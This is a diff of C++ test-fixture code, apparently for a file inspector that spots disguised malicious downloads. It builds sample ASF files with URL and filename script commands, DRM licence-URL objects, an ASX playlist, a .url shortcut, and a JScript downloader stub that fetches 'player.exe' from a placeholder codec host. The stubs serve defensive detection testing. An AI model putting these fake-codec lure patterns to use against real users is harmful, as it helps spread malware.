@@ -66,6 +66,7 @@ std::string Rar5Block(const std::string& header) {
 std::string Sample(const std::string& name) {
     if (name == "iso9660") return std::string(0x8000, '\0') + Sample("iso9660-at-8000");
     if (name == "udf") return std::string(0x8000, '\0') + Sample("udf-at-8000");
+    if (name.starts_with("iso-") && !name.ends_with("-at-8000")) return std::string(0x8000, '\0') + Sample(name + "-at-8000");
     auto bytes = ReadWholeFile(std::string(KV_INSPECT_DATA) + "/" + name + ".head");
     if (!bytes) throw std::runtime_error("missing sample " + name);
     return *bytes;
@@ -90,18 +91,53 @@ std::string InsertAsfObject(const std::string& asf, const std::string& object) {
            asf.substr(30);
 }
 
-std::string WithScriptCommands(const std::string& asf, const std::vector<std::string>& urls) {
-    // Reserved GUID, command count, type count, types (length in characters,
-    // UTF-16 name), commands (time ms, type index, length, UTF-16 text).
-    std::string body = std::string(16, '\0') + LE(urls.size() + 1, 2) + LE(2, 2);
-    for (const std::string type : {"URL", "CAPTION"}) body += LE(type.size(), 2) + Utf16(type);
+std::string WithScriptCommands(const std::string& asf, const std::vector<std::string>& urls,
+                               const std::vector<std::string>& files) {
+    // Reserved GUID, command count, type count, types (length in characters
+    // with the terminating NUL, UTF-16 name and NUL), commands (time in ms,
+    // type index, length, UTF-16 text and NUL).
+    const auto text = [](const std::string& s) { return LE(s.size() + 1, 2) + Utf16(s) + std::string(2, '\0'); };
+    std::string body = std::string(16, '\0') + LE(urls.size() + files.size() + 1, 2) + LE(3, 2);
+    for (const std::string type : {"URL", "CAPTION", "FILENAME"}) body += text(type);
     uint32_t time = 1000;
-    for (const auto& url : urls)
-        body += LE(time += 5000, 4) + LE(0, 2) + LE(url.size() + 1, 2) + Utf16(url) + std::string(2, '\0');
-    body += LE(0, 4) + LE(1, 2) + LE(6, 2) + Utf16("Hello") + std::string(2, '\0');
+    for (const auto& url : urls) body += LE(time += 5000, 4) + LE(0, 2) + text(url);
+    body += LE(0, 4) + LE(1, 2) + text("Hello");
+    for (const auto& file : files) body += LE(time += 5000, 4) + LE(2, 2) + text(file);
     const std::string object = Bytes("\x30\x1A\xFB\x1E\x62\x0B\xD0\x11\xA3\x9B\x00\xA0\xC9\x03\x48\xF6") +
                                LE(24 + body.size(), 8) + body;
     return InsertAsfObject(asf, object);
+}
+
+std::string WithExtensionDrm(const std::string& asf, DrmObject which) {
+    std::string object;
+    if (which == DrmObject::Advanced) {
+        // One content encryption system (PlayReady's id), version 1, no encrypted object records.
+        const std::string data = LE(1, 2) + Bytes("\x79\xF0\x04\x9A\x40\x98\x86\x42\xAB\x92\xE6\x5B\xE0\x88\x5F\x95") +
+                                 LE(1, 4) + LE(0, 2);
+        object = Bytes("\x33\x85\x05\x43\x81\x69\xE6\x49\x9B\x74\xAD\x12\xCB\x86\xD5\x8C") +
+                 LE(24 + data.size(), 8) + data;
+    } else {
+        // The top-level object built by LockWithDrm, taken out of its header.
+        const std::string locked = LockWithDrm(asf, "http://licence.example.invalid/", which == DrmObject::Extended);
+        uint64_t n = 0;
+        for (int i = 7; i >= 0; --i) n = (n << 8) | static_cast<unsigned char>(locked[30 + 16 + i]);
+        object = locked.substr(30, n);
+    }
+    // Into the Header Extension object's data, fixing its sizes and the header's.
+    const std::string guid = Bytes("\xB5\x03\xBF\x5F\x2E\xA9\xCF\x11\x8E\xE3\x00\xC0\x0C\x20\x53\x65");
+    const size_t at = asf.find(guid);
+    if (at == std::string::npos) throw std::runtime_error("no header extension object");
+    const auto read = [&](size_t from, int n) {
+        uint64_t v = 0;
+        for (int i = n - 1; i >= 0; --i) v = (v << 8) | static_cast<unsigned char>(asf[from + static_cast<size_t>(i)]);
+        return v;
+    };
+    const uint64_t extSize = read(at + 16, 8), dataSize = read(at + 42, 4), headerSize = read(16, 8);
+    std::string out = asf;
+    out.insert(at + extSize, object);
+    out = Patch(Patch(Patch(out, at + 16, LE(extSize + object.size(), 8)), at + 42, LE(dataSize + object.size(), 4)), 16,
+                LE(headerSize + object.size(), 8));
+    return out;
 }
 
 std::string ShellLink(const std::string& target, const std::string& arguments) {
@@ -223,7 +259,21 @@ CleanFile Built(const std::string& what, const std::string& head, F format, Name
     return {what, head, size ? size : head.size(), format, std::move(names), {}, encrypted};
 }
 
+const std::string kAsx =
+    "<ASX version=\"3.0\">\r\n  <Title>Film</Title>\r\n  <Entry>\r\n    <Ref href=\"mms://stream.example.invalid/film\"/>\r\n"
+    "  </Entry>\r\n</ASX>\r\n";
+const std::string kUrlFile =
+    "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,11\r\n[InternetShortcut]\r\nIDList=\r\n"
+    "URL=http://codec.example.invalid/film.php\r\n";
+const std::string kJScript =
+    "var shell = new ActiveXObject(\"WScript.Shell\");\r\nvar http = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n"
+    "http.open(\"GET\", \"http://codec.example.invalid/player.exe\", false);\r\nhttp.send();\r\n";
+
 }  // namespace
+
+const std::string& AsxPlaylist() { return kAsx; }
+const std::string& InternetShortcutFile() { return kUrlFile; }
+const std::string& JScriptDownloader() { return kJScript; }
 
 std::vector<CleanFile> Corpus() {
     const auto lnk = ShellLink("C:\\x.exe", "http://example.invalid/");
@@ -296,13 +346,24 @@ std::vector<CleanFile> Corpus() {
         Built("rar5 file", Rar5(RarLock::FileEncrypted), F::Rar5, {"files.rar"}, true),
         Built("rar5 headers", Rar5(RarLock::HeadersEncrypted), F::Rar5, {"files.rar"}, true),
         Real("msi", F::Msi, {"setup.msi"}), Real("deb", F::Unknown, {"film_1_all.deb"}),
-        Real("pe", F::Pe, {"setup.exe", "noextension", "file.xyz"}), Real("elf", F::Elf, {"program"}),
+        Real("pe", F::Pe, {"setup.exe", "noextension", "file.xyz"}),
+        // Linux installers are shared as .bin and .run.
+        Real("elf", F::Elf, {"program", "installer.bin", "setup.run"}),
+        Real("makeself", F::ShellScript, {"Player-1.0-Linux-installer.run", "player-linux.bin", "install.sh"}),
         Built("shell", Sample("shell"), F::ShellScript, {"install.sh"}),
         Built("batch", Sample("batch"), F::BatchScript, {"install.bat"}),
         Built("shortcut", lnk, F::ShellLink, {"Film.lnk"}),
         Real("srt", F::Text, {"film.srt", "film.sub", "film.txt"}), Real("html", F::Html, {"index.html", "index.htm"}),
         Built("iso9660", Sample("iso9660"), F::Iso9660, {"disc.iso", "disc.bin", "disc.mdf"}, false, 700000000),
         Built("udf", Sample("udf"), F::Iso9660, {"disc.iso", "disc.udf", "disc.img"}, false, 4700000000),
+        Real("iso-joliet", F::Iso9660, {"disc.iso", "disc.img", "disc.nrg", "disc.mdf"}),
+        Real("iso-udf", F::Iso9660, {"disc.iso", "disc.img"}),
+        Real("fat", F::Unknown, {"floppy.img", "disk.img"}), Real("mbr", F::Unknown, {"usb-stick.img"}),
+        Real("gpt", F::Unknown, {"disk.img"}),
+        // Pointers elsewhere under their own names, a playlist also under a video name at its own size (a note).
+        {"asx playlist", kAsx, kAsx.size(), F::Playlist, {"stream.asx", "stream.wvx"}, {"stream.wmv", "stream.mp3"}, false},
+        Built("internet shortcut", kUrlFile, F::InternetShortcut, {"Film site.url"}),
+        Built("jscript", kJScript, F::WindowsScript, {"setup.js"}),
     };
 }
 
